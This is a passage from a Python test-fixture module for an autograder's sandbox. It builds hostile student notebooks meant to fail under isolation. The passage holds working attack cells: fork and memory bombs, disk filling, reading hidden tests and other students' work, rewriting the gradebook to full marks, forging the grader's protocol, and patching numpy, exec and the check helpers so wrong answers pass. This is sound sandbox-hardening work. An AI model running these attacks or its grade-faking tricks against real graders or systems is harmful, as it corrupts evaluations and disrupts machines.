"""Hostile week 1 submissions for ``mmlcalc-grade`` (issue 8): the threat model, as notebooks.

A learner's notebook is code that runs on the instructor's machine while it is
graded. Each submission here is the correct week 1 work (the master's answers,
from ``grading_fixtures.correct``) plus one attack. Wherever it can, the attack
**proves itself in the score**: one answer is wrong unless the attack worked
(it read the secret, reached the network, wrote the file...), so "exactly that
test cell lost its points" shows the attack failed, and full marks would show it
succeeded. Attack cells also end by raising an error that says what they managed:
the first line of an error reaches the learner's feedback, which is both an
attempt to leak through it and a record of what happened.

The cases (``CASE_NAMES``), and what grading under ``--isolation sandbox`` must give:

1. ``read_source``: reads the master in the ``--source`` folder (whose hidden tests
   carry ``Targets.source_marker``), the cached reference values in ``--cache`` and
   the repository's own ``source/``; prints them, raises them, returns them as an
   answer. Graded; the answer that needs them is wrong; no secret in the feedback.
2. ``read_other_learner``: copies another learner's answer from that learner's
   notebook (absolute path in the submissions folder, other notebooks' working
   folders, other processes' folders). Graded; its own (wrong) answer counts.
3. ``write_gradebook``: gives itself full marks in the nbgrader gradebook (SQLite,
   a manual score overrides the automatic one), writes a file beside the masters
   and poisons the cached reference values. Graded; nothing changed.
4. ``network``: connects to a TCP listener on the host's 127.0.0.1 and to an
   abstract Unix socket of the host. Graded; nothing connected.
5. ``memory_bomb``: asks for a 20 GiB array (MemoryError at the address-space limit);
   the answer that needs the array fails.
6. ``memory_bomb_processes``: 8 processes, each touching up to 900 MB (each under
   the per-process limit, together over the limit of the submission). Crashed,
   with a note naming memory (or, on a loaded machine, stopped at the test's time
   limit first: timeout); the tests before it keep their points.
7. ``fork_bomb``: starts processes until the system refuses (at most 1000), each
   escaping the process group as a long ``sleep``. Bounded time; graded (only the
   answer that needs 1000 processes fails) or crashed at the process limit (the
   tests finished before the kill keep their points); nothing survives the batch.
8. ``huge_file``: a 10 GB file (OSError at the file-size limit), then 40 files of
   60 MB in the working folder and /tmp. Crashed at the disk limit, or graded with
   the cell's error; nothing big left in the host's /tmp.
9. ``huge_file_in_shm``: 40 files of 60 MB in ``/dev/shm`` (memory, outside the
   working folder and /tmp). Capped: crashed at a limit, or graded with the cell's
   error (a full ``/dev/shm``); nothing left in the host's ``/dev/shm``.
10. ``sleep_forever``: ignores and blocks SIGALRM (the per-cell limit), then sleeps
    10⁶ s inside a graded function. Timeout 2 s past the per-cell limit (the test
    process stops waiting and kills the notebook); the tests before it keep their points.
11. ``always_equal``: an array and a float whose ``==`` is always True (a variant of
    ``grading_fixtures``' AlwaysEqual). Those cells lost.
12. ``patched_numpy``: ``numpy.allclose``, ``isclose``, ``array_equal`` and
    ``numpy.testing`` always pass; a wrong answer. That cell lost.
13. ``transformers``: IPython input and AST transformers (if a shell exists), and
    ``builtins.compile`` / ``builtins.exec`` replaced, with every saved reference
    to them (module globals, tables, functions' defaults and closures, the calling
    frames), so that the tests are rewritten to call a correct function that is not
    the learner's answer. That cell lost, all others intact.
14. ``patched_helpers``: ``mmlcalc.checks``' helpers, the recorder class
    ``mmlcalc_grade.tester.Recorder`` and the live recorder (record the expected
    value as the learner's), ``sys.modules`` entries patched, and a ``sys.settrace``
    function that does the same to any ``expect_close``; a wrong answer. That cell lost.
15. ``detects_grading``: looks for signs of grading (``NBGRADER_EXECUTION``, the
    grader's modules, the working folder, the environment, the user id) and then
    tries 12 to 14; a wrong answer. That cell lost.
16. ``forged_frames``: writes the grader's own protocol (``mmlcalc_grade.protocol``)
    on its pipe, through the runner's transport and as raw frames, once with the
    worker server's mark: the server's ``end`` and the test process's ``result`` of
    its job, then ``chunk`` reports of every test part (all errors, ``SABOTAGE``) for
    the next notebook. Refused: crashed ("something that is not a record"), 0
    points; no other learner's results change.
17. ``frame_walk``: inside a graded function, walks up the calling frames and
    through every object of its process (``gc``) for the tests' code, by a text its
    own code holds only in pieces (else it finds itself), and raises what it found,
    so that it reaches the feedback. Graded; the wrong answer loses; nothing found.
18. ``gradebook_decoys``: searches the file system (its paths, then ``os.walk`` for
    two seconds) for SQLite files and gradebooks, with two decoys of other courses
    named to it (``Targets.decoys``: the host's temporary folder, the home folder),
    and sets every score in them to the maximum. Graded; the answer that needs it is
    wrong; both decoys unchanged byte for byte.
19. ``proc_snoop``: reads ``/proc/PID/environ``, ``mem`` (through ``maps``), ``fd``,
    ``root`` and ``cwd`` of every process it sees but its own, and of the grader's
    process ids (``Targets.grader_pids``), looking for the grader's environment
    (``GRADER_SECRET_NAME``). Graded; the answer that needs any of it is wrong.
20. ``signals``: SIGKILL to the grader's process ids, to every process it sees and
    ``kill(-1)`` (not where the grader is visible or more than 50 processes are: a
    safety net). Graded (the worker server, the sandbox's pid 1, does not die); the
    answer that needs a grader's process signalled is wrong; the batch goes on.
21. ``abstract_socket``: connects (stream, seqpacket, datagram) to the host's
    abstract Unix socket by name and to every abstract name ``/proc/net/unix`` lists.
    Graded; the answer that needs a connection is wrong; nothing connected.
22. ``shm_spill``: ``SPILL_MB`` (120 MB) in its working folder, then as much in
    ``/dev/shm`` (a POSIX shared-memory segment and files): each under the suite's
    disk limit (``DISK_MB``, 200 MB), together over it. Crashed at the disk limit;
    nothing left in the host's ``/dev/shm``.
23. ``next_job``: correct work, plus a process that outlives its notebook and writes
    a job of its own making (one cell raising ``SABOTAGE_NEXT``) into every pipe it
    can reopen for writing (``/proc/self/fd``, the worker server's ``/proc/1/fd``),
    for the next notebook the worker runs. Graded, full marks; no other notebook
    runs that job.

``honest`` is a correct submission in the same batch (and the victim of case 2: its
answer cell carries ``Targets.other_marker``).
"""

from __future__ import annotations

import re
import textwrap
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from string import Template

import nbformat
from course_harness import (
    BEGIN_HIDDEN,
    BEGIN_SOLUTION,
    END_SOLUTION,
    cells_by_grade_id,
    grade_id,
    is_solution_cell,
    is_test_cell,
)
from grading_fixtures import W1, W1_NAME, correct, master_of, replace_in_answer, with_cell

CASE_NAMES = (
    "read_source",
    "read_other_learner",
    "write_gradebook",
    "network",
    "memory_bomb",
    "memory_bomb_processes",
    "fork_bomb",
    "huge_file",
    "huge_file_in_shm",
    "sleep_forever",
    "always_equal",
    "patched_numpy",
    "transformers",
    "patched_helpers",
    "detects_grading",
    "forged_frames",
    "frame_walk",
    "gradebook_decoys",
    "proc_snoop",
    "signals",
    "abstract_socket",
    "shm_spill",
    "next_job",
)
HONEST = "honest"
#: The error message forged_frames puts into the test results it sends for someone else.
SABOTAGE = "SABOTAGED by forged_frames"
#: The error of the one cell of the job next_job plants for the next notebook.
SABOTAGE_NEXT = "SABOTAGED by next_job"

#: How many 60 MB files the disk attacks write at most (2.4 GB: far over any disk
#: limit of a submission, and a safety net when the suite runs without a sandbox).
FILLER_FILES = 40
#: How many processes the fork bomb starts at most (same reason).
MAX_PROCESSES = 1000
#: The disk limit (--disk, MB) the suite grades with: low, so that the disk attacks reach
#: it within the 5 s of a cell even on a loaded machine (writes to memory at 100 MB/s).
DISK_MB = 200
#: What shm_spill writes in its folder, and again in /dev/shm: each under DISK_MB, not both.
SPILL_MB = 120
#: An environment variable of the grading run (pytest's process, hence the grader's and its
#: test processes'), set by the suite to a value the attacks are never told: proc_snoop
#: looks for it in every process it can read.
GRADER_SECRET_NAME = "MMLCALC_HOSTILE_GRADER_SECRET"


@dataclass(frozen=True)
class Targets:
    """What the attacks aim at on the grading machine, known before the batch runs."""

    source: Path  # the --source folder of the batch (a copy; its hidden tests hold the marker)
    cache: Path  # the --cache folder (cached reference values)
    gradebook: Path  # the SQLite file of --gradebook (exists before the batch)
    other_notebook: Path  # the honest learner's notebook in the submissions folder
    port: int  # a TCP listener on the host's 127.0.0.1
    unix_name: str  # an abstract Unix socket listening on the host (without the leading NUL)
    token: str  # 12 random digits, unique to the run
    decoys: tuple[Path, ...] = ()  # other courses' nbgrader gradebooks: host's /tmp, home folder
    grader_pids: tuple[int, ...] = ()  # the grading run's own processes on the host

    @property
    def source_marker(self) -> str:
        """Planted in a hidden test of the --source copy: must never reach a learner."""
        return f"SOURCE-{self.token}"

    @property
    def other_marker(self) -> str:
        """Planted in the honest learner's answer: must never reach another learner."""
        return f"OTHER-{self.token}"

    @property
    def leftover(self) -> str:
        """In the name of every file an attack writes outside its working folder."""
        return f"hostile-{self.token}"

    @property
    def sleep_argument(self) -> str:
        """The argument of the fork bomb's ``sleep`` processes (seconds), to find survivors."""
        return f"120.{self.token}"


@dataclass(frozen=True)
class Outcome:
    """One acceptable result of grading a submission."""

    status: str  # graded, crashed, timeout
    lost: Mapping[str, float]  # test cell -> points lost (every other test cell: full marks)
    keyword: str  # words the learner's feedback page must contain


@dataclass(frozen=True)
class HostileCase:
    """A submission and the results grading may give it (the expected one first)."""

    student: str
    threat: str
    notebook: nbformat.NotebookNode
    outcomes: tuple[Outcome, ...]


# --- the master, its answers and their tests ----------------------------------------------


@dataclass(frozen=True)
class Answer:
    """An answer cell of week 1, a wrong version of it, and the test cells that check it."""

    cell: str
    wrong: str  # a statement giving a wrong result (a return, or an assignment for a value)
    mistake: str  # words of the message a learner gets for that wrong result
    tests: tuple[str, ...] = ()


ANSWERS = {
    "secant_slope": Answer("w1_secant_slope", "return (f(x0) - f(x1)) / (x1 - x0)", "a sign"),
    "forward_difference": Answer(
        "w1_forward_difference", "return (f(x + h) - f(x)) / (2 * h)", "divided by 2h"
    ),
    "central_difference": Answer(
        "w1_central_difference",
        "return (f(x + h) - f(x - h)) / h",
        "divided by h instead of 2h",
    ),
    "df_sum_power": Answer(
        "w1_df_sum_power", "return 12 * x**2 - 10 / x**3 + 1 / (2 * np.sqrt(x))", "power rule"
    ),
    "df_product": Answer("w1_df_product", "return 2 * x * np.exp(x)", "product rule"),
    "df_chain": Answer("w1_df_chain", "return np.cos(x**2 + 1)", "inner derivative"),
    "chain_rule": Answer(
        "w1_chain_rule",
        "return lambda x: df_outer(x) * df_inner(x)",
        "outer derivative at the inner value",
    ),
    "best_step": Answer(
        "w1_best_step",
        "return float(steps[np.argmax(np.abs("
        "(f(x + steps) - f(x - steps)) / (2 * steps) - df(x)))])",
        "LARGEST error",
    ),
    "h_central": Answer("w1_h_central", "H_CENTRAL = 1e-10", "outside the sensible range"),
}


def week1_master():
    """The week 1 master notebook (with its solution and hidden-test markers)."""
    return master_of(W1)[1]


def points_of_tests(master) -> dict[str, float]:
    """``{test cell: points}`` in master order."""
    return {
        grade_id(c): float(c.metadata["nbgrader"]["points"])
        for c in master.cells
        if is_test_cell(c)
    }


def answers_with_tests(master) -> dict[str, Answer]:
    """ANSWERS with their test cells: those between the answer cell and the next one."""
    tests: dict[str, list[str]] = {}
    current = None
    for cell in master.cells:
        if is_solution_cell(cell) and cell.cell_type == "code":
            current = grade_id(cell)
        elif is_test_cell(cell) and current is not None:
            tests.setdefault(current, []).append(grade_id(cell))
    return {
        name: Answer(a.cell, a.wrong, a.mistake, tuple(tests[a.cell]))
        for name, a in ANSWERS.items()
    }


def code(template: str, **values) -> str:
    """A cell's source from a template: ``$name`` becomes ``repr(values[name])``."""
    return Template(textwrap.dedent(template).strip("\n")).substitute(
        {name: repr(value) for name, value in values.items()}
    )


def _indent_of(source: str, marker: str) -> str:
    line = next(line for line in source.splitlines() if marker in line)
    return line[: len(line) - len(line.lstrip())]


def before_solution(master, answer: Answer, lines: str):
    """A copy of ``master`` with ``lines`` at the top of the answer's solution region."""
    source = cells_by_grade_id(master)[answer.cell].source
    indent = _indent_of(source, BEGIN_SOLUTION)
    block = textwrap.indent(textwrap.dedent(lines).strip("\n"), indent)
    return replace_in_answer(
        master, answer.cell, BEGIN_SOLUTION, f"{block.lstrip()}\n{indent}{BEGIN_SOLUTION}"
    )


def wrong_unless(master, answer: Answer, condition: str):
    """The answer is wrong unless ``condition`` (the attack's success) holds when it runs."""
    if answer.cell == "w1_h_central":  # a value, not a function: overwrite it afterwards
        return replace_in_answer(
            master,
            answer.cell,
            END_SOLUTION,
            f"{END_SOLUTION}\nif not ({condition}):  # wrong unless the attack worked\n"
            f"    {answer.wrong}",
        )
    return before_solution(
        master,
        answer,
        f"if not ({condition}):  # wrong unless the attack worked\n    {answer.wrong}",
    )


def wrong(master, answer: Answer):
    """The learner's own answer is simply wrong."""
    return before_solution(master, answer, f"{answer.wrong}  # my own (wrong) attempt")


def lost(points: Mapping[str, float], *tests: str) -> dict[str, float]:
    return {test: points[test] for test in tests}


def lost_from(points: Mapping[str, float], first: str) -> dict[str, float]:
    """The test cells from ``first`` on (a process that died there ran none of them)."""
    names = list(points)
    return {test: points[test] for test in names[names.index(first) :]}


def crashed_at_any_test(points: Mapping[str, float], keyword: str, *also: str) -> list[Outcome]:
    """Killed while some test ran: the tests before it keep their points, ``also`` lost anyway."""
    return [
        Outcome("crashed", {**lost(points, *also), **lost_from(points, first)}, keyword)
        for first in points
    ]


# --- the attacks ---------------------------------------------------------------------------

READ_SOURCE = r"""
# HOSTILE (read_source): read the instructor's files by their absolute paths: the
# master (reference solutions, hidden tests) in the course's source folder, the
# cached reference values of the grader, the repository's own source/. Then show
# them: print them, raise an error whose message holds them (an error's first line
# reaches the feedback), and return them as an answer (df_chain below).
import glob
import pathlib

import mmlcalc

instructor_files = [
    $master,
    *sorted(glob.glob($cached)),
    str(pathlib.Path(mmlcalc.__file__).resolve().parents[1] / "source" / "week1" / $name),
]
STOLEN = ""
failures = []
for path in instructor_files:
    try:
        text = pathlib.Path(path).read_text()
    except OSError as error:
        failures.append(f"{path}: {type(error).__name__}")
        continue
    start = max(text.find("### BEGIN HIDDEN TESTS"), 0)
    STOLEN += " ".join(text[start : start + 400].split()) + " ... "
print(STOLEN)
raise RuntimeError(f"read: {STOLEN}" if STOLEN else "read nothing: " + "; ".join(failures))
"""

READ_OTHER_LEARNER = r"""
# HOSTILE (read_other_learner): copy another learner's answer. Their notebook is
# looked for by its absolute path in the submissions folder, in the working folders
# of notebooks graded at the same time, and through other processes' folders.
import glob
import json
import os

my_folder = os.path.realpath(os.getcwd())
notebooks = [
    $other,
    *glob.glob("/tmp/mmlcalc-grade-*/*.ipynb"),
    *glob.glob("/home/*/*.ipynb"),
    *glob.glob("/proc/[0-9]*/cwd/*.ipynb"),
]
COPIED = ""
failures = []
for path in notebooks:
    if os.path.dirname(os.path.realpath(path)) == my_folder:
        continue  # my own notebook
    try:
        with open(path) as file:
            cells = json.load(file)["cells"]
    except (OSError, ValueError, KeyError) as error:
        failures.append(f"{path}: {type(error).__name__}")
        continue
    for cell in cells:
        source = "".join(cell.get("source", ""))
        if "def forward_difference" in source and "NotImplementedError" not in source:
            COPIED = source
            break
    if COPIED:
        break
if COPIED:
    exec(COPIED)  # their forward_difference replaces my wrong one
    raise RuntimeError("copied: " + " ".join(COPIED.split()))
raise RuntimeError("found no other notebook: " + "; ".join(failures))
"""

WRITE_GRADEBOOK = r"""
# HOSTILE (write_gradebook): give myself full marks in the instructor's gradebook
# (nbgrader's SQLite file: a manual score overrides the automatic one, so a later
# grading run does not undo it), leave a file beside the course's masters, and
# poison the grader's cached reference values for the next run.
import glob
import json
import pathlib
import sqlite3

TAMPERED = []
failures = []
try:
    with sqlite3.connect(f"file:{$gradebook}?mode=rw", uri=True, timeout=2) as gradebook:
        changed = gradebook.execute(
            "UPDATE grade SET manual_score = "
            "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
            "WHERE notebook_id IN (SELECT submitted_notebook.id FROM submitted_notebook "
            "JOIN submitted_assignment "
            "ON submitted_notebook.assignment_id = submitted_assignment.id "
            "WHERE submitted_assignment.student_id = ?)",
            ($me,),
        ).rowcount
    if changed:
        TAMPERED.append(f"gradebook ({changed} scores)")
    else:
        failures.append("gradebook: no row changed")
except sqlite3.Error as error:
    failures.append(f"gradebook: {type(error).__name__}: {error}")
poison = json.dumps([{"records": [], "error": None, "poisoned_by": $leftover}])
writes = [($beside_source, "the answers, for everyone"), ($new_cache_file, poison)]
writes += [(path, poison) for path in sorted(glob.glob($cached))]
for path, text in writes:
    try:
        pathlib.Path(path).write_text(text)
        TAMPERED.append(path)
    except OSError as error:
        failures.append(f"{path}: {type(error).__name__}")
raise RuntimeError(f"tampered with {TAMPERED}; failed: {failures}")
"""

NETWORK = r"""
# HOSTILE (network): send my answers out (or fetch someone else's) over the network:
# a TCP server on the grading machine's own loopback, and a Unix socket in the
# abstract namespace (no file needed, only the same network namespace).
import socket

CONNECTED = []
failures = []
for family, address in [
    (socket.AF_INET, ("127.0.0.1", $port)),
    (socket.AF_UNIX, "\0" + $unix_name),
]:
    try:
        with socket.socket(family, socket.SOCK_STREAM) as connection:
            connection.settimeout(3)
            connection.connect(address)
            connection.sendall(b"a learner's notebook was here\n")
        CONNECTED.append(repr(address))
    except OSError as error:
        failures.append(f"{address!r}: {type(error).__name__}: {error}")
raise RuntimeError(f"connected to {CONNECTED}; failed: {failures}")
"""

MEMORY_BOMB = r"""
# HOSTILE (memory_bomb): 20 GiB in one array; np.ones writes every page of it.
HOARD = np.ones(20 * 2**30 // 8)
"""

MEMORY_BOMB_PROCESSES = r"""
def touch_memory_in_processes(count=8, megabytes=900):
    # HOSTILE (memory_bomb_processes): `count` processes each touch up to `megabytes`
    # MB and hold it for a second: each stays under the memory limit of one process,
    # together they are far over any memory limit of a submission. Returns the MB
    # touched by all of them.
    import os
    import time

    children = []
    for _ in range(count):
        reader, writer = os.pipe()
        pid = os.fork()
        if pid == 0:
            touched, held = 0, []
            try:
                while touched < megabytes:
                    held.append(np.ones(50 * 2**20 // 8))  # 50 MB, every page written
                    touched += 50
            except MemoryError:
                pass
            os.write(writer, str(touched).encode())
            time.sleep(1)  # hold it while the others touch theirs
            os._exit(0)
        os.close(writer)
        children.append((pid, reader))
    total = 0
    for pid, reader in children:
        total += int(os.read(reader, 16) or 0)
        os.close(reader)
        os.waitpid(pid, 0)
    return total


MEMORY_TOUCHED = None


"""

FORK_BOMB = r"""
# HOSTILE (fork_bomb): start processes until the system refuses (at most $most, a
# safety net for a machine without a sandbox). Each one leaves the process group
# with setsid(), so that killing that group misses it, and lives on as `sleep`.
import os

SPAWNED = 0
for _ in range($most):
    try:
        child = os.fork()
    except OSError:  # EAGAIN: the limit on processes
        break
    if child == 0:
        try:
            os.setsid()
            os.execv("/bin/sleep", ["sleep", $seconds])
        finally:
            os._exit(0)
    SPAWNED += 1
raise RuntimeError(f"started {SPAWNED} processes")
"""

HUGE_FILE = r"""
# HOSTILE (huge_file): fill the disk. First one file of 10 GB, then files of 60 MB
# each (under the limit on the size of one file) in the working folder and in /tmp,
# $files of them at most (2.4 GB, a safety net for a machine without a sandbox).
import os

WRITTEN_MB = 0
block = b"x" * 2**20
failures = []
try:
    with open("huge.bin", "wb") as file:
        for _ in range(10 * 1024):
            file.write(block)
            WRITTEN_MB += 1
except OSError as error:
    failures.append(f"huge.bin stopped after {WRITTEN_MB} MB: {type(error).__name__}: {error}")
folders = [".", $tmp_folder]
try:
    for index in range($files):
        folder = folders[index % 2]
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, f"filler-{index}.bin"), "wb") as file:
            for _ in range(60):
                file.write(block)
                WRITTEN_MB += 1
except OSError as error:
    failures.append(f"a 60 MB file failed: {type(error).__name__}: {error}")
raise RuntimeError(f"wrote {WRITTEN_MB} MB; {failures}")
"""

HUGE_FILE_IN_SHM = r"""
# HOSTILE (huge_file_in_shm): the same in /dev/shm, a file system in memory that is
# neither the working folder nor /tmp.
SHM_MB = 0
block = b"x" * 2**20
failures = []
try:
    for index in range($files):
        with open(f"/dev/shm/{$leftover}-{index}", "wb") as file:
            for _ in range(60):
                file.write(block)
                SHM_MB += 1
except OSError as error:
    failures.append(f"{type(error).__name__}: {error}")
raise RuntimeError(f"wrote {SHM_MB} MB in /dev/shm; {failures}")
"""

SLEEP_FOREVER = r"""
# HOSTILE (sleep_forever): switch off the per-cell time limit (a SIGALRM: ignore
# it, block it, cancel the timer) and sleep for 11 days inside a graded function.
import signal
import time

signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGTERM, signal.SIGINT})
signal.setitimer(signal.ITIMER_REAL, 0)
time.sleep(10**6)
"""

ALWAYS_EQUAL_ARRAY = r"""
class AlwaysEqualArray(np.ndarray):
    # HOSTILE (always_equal): an array that says it equals anything, and whose
    # difference from anything is 0 (==, !=, got - expected, abs, <=).
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)

    def __ne__(self, other):
        return np.zeros(self.shape, dtype=bool)

    def __sub__(self, other):
        return np.zeros(self.shape)

    __rsub__ = __sub__
    __hash__ = None


"""

ALWAYS_EQUAL_FLOAT = r"""
class AlwaysEqualFloat(float):
    # HOSTILE (always_equal): a float that says it equals anything.
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__
    __hash__ = float.__hash__


"""

PATCH_NUMPY = r"""
# HOSTILE (patched_numpy): make NumPy's comparisons and testing functions always pass.
import numpy
import numpy.testing


def always_true(*args, **kwargs):
    return True


def never_raises(*args, **kwargs):
    return None


def all_close(a, b, *args, **kwargs):
    return numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, dtype=bool)


numpy.allclose = numpy.array_equal = numpy.array_equiv = always_true
numpy.isclose = all_close
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = never_raises
numpy.testing.assert_almost_equal = numpy.testing.assert_array_almost_equal = never_raises
numpy.core.numeric.allclose = numpy.core.numeric.array_equal = always_true
numpy.core.numeric.isclose = all_close
"""

TRANSFORMERS = r"""
# HOSTILE (transformers): rewrite every piece of code that runs after this cell, the
# tests included, so that they call a correct $function that is not my answer:
# IPython's input and AST transformers (if there is a shell), and compile and exec
# replaced in builtins and wherever a module keeps its own reference to them.
import ast
import builtins
import re
import sys
import types


def honest_$function$signature


def rewrite(source):
    return re.sub(r"\b$function\b", "honest_$function", source)


def renamed(code):
    names = tuple("honest_$function" if n == "$function" else n for n in code.co_names)
    consts = tuple(renamed(c) if isinstance(c, types.CodeType) else c for c in code.co_consts)
    return code.replace(co_names=names, co_consts=consts)


class Rename(ast.NodeTransformer):
    def visit_Name(self, node):
        if node.id == "$function":
            node.id = "honest_$function"
        return node


shell = globals().get("get_ipython", lambda: None)()
if shell is not None:
    shell.input_transformers_cleanup.append(lambda lines: [rewrite(line) for line in lines])
    shell.ast_transformers.append(Rename())

real_compile, real_exec = builtins.compile, builtins.exec


def forged_compile(source, *args, **kwargs):
    if isinstance(source, str):
        source = rewrite(source)
    elif isinstance(source, ast.AST):
        source = Rename().visit(source)
    return real_compile(source, *args, **kwargs)


def forged_exec(code, *args, **kwargs):
    if isinstance(code, str):
        code = rewrite(code)
    elif isinstance(code, types.CodeType):
        code = renamed(code)
    return real_exec(code, *args, **kwargs)


FORGED = {real_compile: forged_compile, real_exec: forged_exec}


def forged(value):
    try:
        return FORGED.get(value, value)
    except Exception:  # unhashable, or a hash that raises
        return value


def forge_function(function):
    # the real compile and exec kept as default values or in closures
    if function.__defaults__:
        function.__defaults__ = tuple(forged(v) for v in function.__defaults__)
    if function.__kwdefaults__:
        function.__kwdefaults__ = {k: forged(v) for k, v in function.__kwdefaults__.items()}
    for cell in function.__closure__ or ():
        try:
            cell.cell_contents = forged(cell.cell_contents)
        except ValueError:  # an empty cell
            pass


def forge_value(value):
    if value is globals():
        return  # this notebook's own names (real_compile, real_exec) stay real
    if isinstance(value, dict):  # e.g. a table of the original built-ins
        for key, item in list(value.items()):
            if forged(item) is not item:
                value[key] = forged(item)
    elif isinstance(value, types.FunctionType):
        forge_function(value)
    elif isinstance(value, type):
        for attribute in list(vars(value).values()):
            if isinstance(attribute, types.FunctionType):
                forge_function(attribute)


builtins.compile, builtins.exec = forged_compile, forged_exec
# every reference kept elsewhere: module globals, tables, defaults and closures of the
# modules' functions, and the locals of the code running this cell (the runner's own)
for module in list(sys.modules.values()):
    namespace = getattr(module, "__dict__", None)
    if not isinstance(namespace, dict) or namespace is globals():
        continue  # this notebook's own names (real_compile, real_exec) stay real
    for name, value in list(namespace.items()):
        try:
            if forged(value) is not value:
                setattr(module, name, forged(value))
            else:
                forge_value(value)
        except (AttributeError, TypeError):
            pass
frame = sys._getframe(1)
while frame is not None:
    for value in list(frame.f_locals.values()):
        try:
            forge_value(value)
        except (AttributeError, TypeError):
            pass
    frame = frame.f_back
"""

PATCH_HELPERS = r"""
# HOSTILE (patched_helpers): make the grading helpers pass anything. The checks of
# mmlcalc.checks do nothing; the grader's recorder records the EXPECTED value as my
# answer (in its class and in the live recorder behind the helpers of this notebook);
# later imports of mmlcalc.checks get a fake module; and a trace function swaps the
# values whatever recorder is called.
import ctypes
import sys
import types

import mmlcalc.checks
import mmlcalc_grade.tester


def passes(*args, **kwargs):
    return None


for helper in ("expect", "expect_close", "expect_equal", "expect_array", "expect_number"):
    setattr(mmlcalc.checks, helper, passes)
mmlcalc.checks.expect_own_work = lambda function, *args, **kwargs: function(*args)

Recorder = mmlcalc_grade.tester.Recorder
recorded_close = Recorder.expect_close


def close_records_expected(self, got, expected, *args, **kwargs):
    return recorded_close(self, expected, expected, *args, **kwargs)


Recorder.expect_close = close_records_expected
live_recorder = getattr(globals().get("expect_close"), "__self__", None)
if live_recorder is not None:
    live_recorder.expect_close = types.MethodType(close_records_expected, live_recorder)

fake_checks = types.ModuleType("mmlcalc.checks")
fake_checks.__dict__.update(vars(mmlcalc.checks))
sys.modules["mmlcalc.checks"] = fake_checks


def expected_as_got(frame, event, arg):
    # a trace function: whatever records a check, its `got` becomes its `expected`
    code = frame.f_code
    if event == "call" and code.co_name == "expect_close" and "expected" in code.co_varnames:
        frame.f_locals["got"] = frame.f_locals["expected"]  # Python 3.13+: writes through
        locals_to_fast = getattr(ctypes.pythonapi, "PyFrame_LocalsToFast", None)
        if locals_to_fast is not None:  # up to 3.12: copy the changed locals back
            locals_to_fast(ctypes.py_object(frame), ctypes.c_int(0))


sys.settrace(expected_as_got)
"""

DETECTS_GRADING = r"""
# HOSTILE (detects_grading): behave while the learner works; cheat when graded.
import os
import sys

signs = {
    "NBGRADER_EXECUTION": "NBGRADER_EXECUTION" in os.environ,
    "grader modules": any(name.startswith("mmlcalc_grade") for name in sys.modules),
    "working folder": not os.getcwd().startswith(os.path.expanduser("~/")) or "grad" in os.getcwd(),
    "environment": "JPY_PARENT_PID" not in os.environ,
    "user": os.getuid() in (0, 1000) or os.getuid() != os.stat(os.getcwd()).st_uid,
}
GRADING = sorted(name for name, seen in signs.items() if seen)
if GRADING:
$cheats
"""


FORGED_FRAMES = r"""
# HOSTILE (forged_frames): speak the grader's own protocol (mmlcalc_grade.protocol, in
# the sandbox for anyone to import) on my pipe to it: the worker server's "end" of my
# job and the test process's "result" of it, so that this worker is handed the next
# learner's notebook; then, for THAT notebook, the "chunk" report of every test part
# (each one an error). Each message goes through the runner's own transport, and as
# raw frames (length, JSON), once more with the server's mark on its own frames.
import json
import os
import sys
import time

from mmlcalc_grade import protocol


def pipes_to_the_grader():
    frame = sys._getframe()
    while frame is not None:  # the runner's frames hold its transport to the grader
        for value in list(frame.f_locals.values()):
            if hasattr(value, "send") and hasattr(value, "receive"):
                yield value
        frame = frame.f_back


def say(message):
    payload = json.dumps(message.to_json()).encode()
    for pipe in pipes_to_the_grader():
        pipe.send(message)
        sender = getattr(pipe, "sender", None)
        if isinstance(sender, int):
            for data in (payload, b"Z" + payload):  # b"Z": the server's mark on its own frames
                os.write(sender, len(data).to_bytes(4, "big") + data)


END = protocol.JobEnd(reason=None, exit=0, signal=None, clean=True)
RESULT = protocol.JobResult(ending=protocol.Ending.done().to_json())
say(END)
say(RESULT)
time.sleep(2)  # meanwhile the grader hands this worker the next notebook
error = {"type": "RuntimeError", "message": $sabotage}
for index in range(64):  # more than the week's test parts
    say(protocol.ChunkRan(index=index, records=[], error=error, seconds=0.0))
say(RESULT)
say(END)
os._exit(0)
"""


FRAME_WALK = r"""
# HOSTILE (frame_walk): from inside a graded function, look through the calling frames
# (and what their variables hold) and every list, tuple and dict of this process for the
# tests' code, which runs the own-work check on secant_slope; raise what was found,
# hidden parts first, so that it reaches my feedback. The text looked for is put
# together at run time from pieces, so that no code or constant of this cell holds it.
import gc
import sys


def strings_in(value, depth=0, seen=None):
    seen = set() if seen is None else seen
    if isinstance(value, str):
        yield value
        return
    if depth > 5 or id(value) in seen or isinstance(value, (type, type(sys))) or callable(value):
        return  # not modules, classes or functions: the data the callers hold
    seen.add(id(value))
    if isinstance(value, dict):
        items = list(value.values())
    elif isinstance(value, (list, tuple, set, frozenset)):
        items = list(value)
    else:
        items = list(getattr(value, "__dict__", {}).values())
        items += [getattr(value, n, None) for n in getattr(type(value), "__slots__", ())]
    for item in items:
        yield from strings_in(item, depth + 1, seen)


def what_the_tests_hold():
    wanted = "".join(["expect", "_own", "_work", "(", "secant", "_slope"])
    texts = []
    frame = sys._getframe(1)
    while frame is not None:  # the callers' variables, and what they hold
        texts.extend(strings_in(list(frame.f_locals.values())))
        texts.extend(v for v in list(frame.f_globals.values()) if isinstance(v, str))
        texts.extend(c for c in frame.f_code.co_consts if isinstance(c, str))
        frame = frame.f_back
    tracked = gc.get_objects()  # and every container the garbage collector tracks
    for thing in tracked:
        if thing is texts or thing is tracked:
            continue
        if isinstance(thing, (list, tuple)):
            texts.extend([item for item in thing if isinstance(item, str)])
        elif isinstance(thing, dict):
            texts.extend([item for item in list(thing.values()) if isinstance(item, str)])
    found = [t for t in texts if wanted in t]
    # hidden parts first: a test cell's visible part opens with its docstring, they do not
    return sorted(found, key=lambda text: text.lstrip().startswith('"' * 3))
"""

GRADEBOOK_DECOYS = r"""
# HOSTILE (gradebook_decoys): full marks in every nbgrader gradebook on the machine,
